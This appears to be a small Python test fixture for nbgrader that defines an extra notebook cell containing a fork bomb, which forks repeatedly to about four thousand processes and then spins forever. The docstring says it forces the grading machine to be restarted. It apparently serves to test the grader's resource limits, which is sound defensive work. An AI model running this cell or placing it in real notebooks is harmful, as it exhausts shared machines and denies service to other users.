"""Processes that make processes. Stock nbgrader: the machine has to be restarted."""

CELLS = {
    "extra first cell": """
import os

for _ in range(12):  # four thousand, if nothing stops it
    try:
        os.fork()
    except OSError:
        pass
while True:
    pass
"""
}
